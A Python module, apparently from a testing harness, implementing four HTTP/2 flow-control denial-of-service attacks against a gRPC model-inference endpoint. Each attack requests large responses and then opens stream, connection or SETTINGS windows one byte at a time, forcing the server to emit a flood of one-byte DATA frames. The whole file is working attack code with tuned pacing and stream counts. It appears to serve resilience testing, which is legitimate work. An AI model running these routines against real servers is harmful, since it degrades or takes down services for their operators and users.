"""Windows of large answers that are opened a byte at a time, so that each byte is sent as a frame of its own."""

import itertools
import struct
import time
from collections.abc import Iterator

from ..attack import Strike, attack
from ..http2 import (
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    SETTINGS,
    WINDOW_UPDATE,
    Http2Connection,
    call_headers,
    frame,
    grpc_message,
)

__all__ = ["ATTACKS"]

_WINDOWS = "windows opened a byte at a time"

_WIDE = frame(WINDOW_UPDATE, payload=struct.pack(">I", 1 << 30))
_BYTE = struct.pack(">I", 1)
_FRAME = 10  # bytes of a frame of data with one byte

_AT_ONCE, _PAUSE = 32, 0.03  # calls, and seconds between so many: 512 ordinary ones at once are another attack


def _open_by_bytes(
    strike: Strike, count: int, opened: Iterator[tuple[bytes, int]], *, window: int = 0, before: bytes = _WIDE
) -> None:
    """Ask for large answers on one connection, and then open their windows, each time when what that lets through came.

    To open them faster lets fewer frames through: the server reads what opens them, and sends when it has.

    Args:
        strike: The attack.
        count: How many answers.
        opened: Frames that open windows, and how many bytes then come.
        window: Of each stream at first.
        before: Frames that are sent first.
    """
    request = strike.target.request(16, 64)
    request.outputs.add(name=strike.target.largest_output())
    message = grpc_message(request.SerializeToString())
    block = call_headers(strike.target.path("ModelInfer"))
    settings = ((INITIAL_WINDOW_SIZE, window),)
    with Http2Connection(strike.target.host, strike.target.port, settings) as connection:
        connection.send(before, strike.until)
        for stream in range(1, 2 * count, 2):
            connection.send(frame(HEADERS, END_HEADERS, stream, block), strike.until)
            if connection.send_data(stream, message, strike.until) < len(message):
                break
            connection.send(frame(DATA, END_STREAM, stream), strike.until)
            if stream % (2 * _AT_ONCE) > 2 * _AT_ONCE - 2:
                time.sleep(_PAUSE)
        connection.skips = True
        for frames, answered in opened:
            if not connection.send(frames, strike.until) or not connection.skip(answered, strike.until):
                break
        strike.answers.note("CLOSED" if connection.is_closed else "OPENED", f"{connection.skipped:,} bytes came")


def _of_streams(count: int) -> Iterator[tuple[bytes, int]]:
    one_round = b"".join(frame(WINDOW_UPDATE, 0, stream, _BYTE) for stream in range(1, 2 * count, 2))
    return itertools.repeat((one_round, _FRAME * count))


def _of_settings(count: int) -> Iterator[tuple[bytes, int]]:
    for size in itertools.count(1):
        yield frame(SETTINGS, payload=struct.pack(">HI", INITIAL_WINDOW_SIZE, size)), _FRAME * count


@attack(_WINDOWS)
def windows_of_64_streams(strike: Strike) -> None:
    """64 large answers, each of whose windows is opened by a byte, in turn, without end."""
    _open_by_bytes(strike, 64, _of_streams(64))


@attack(_WINDOWS)
def windows_of_512_streams(strike: Strike) -> None:
    """The same with 512 answers."""
    _open_by_bytes(strike, 512, _of_streams(512))


@attack(_WINDOWS)
def windows_of_a_connection(strike: Strike) -> None:
    """512 large answers whose connection's window is opened by a byte again and again."""
    opened = frame(WINDOW_UPDATE, payload=_BYTE) * 64
    _open_by_bytes(strike, 512, itertools.repeat((opened, 0)), window=2**31 - 1, before=b"")


@attack(_WINDOWS)
def windows_by_settings(strike: Strike) -> None:
    """SETTINGS that each open the windows of 512 large answers by a byte: 512 frames for one."""
    _open_by_bytes(strike, 512, _of_settings(512))


ATTACKS = (windows_of_64_streams, windows_of_512_streams, windows_of_a_connection, windows_by_settings)
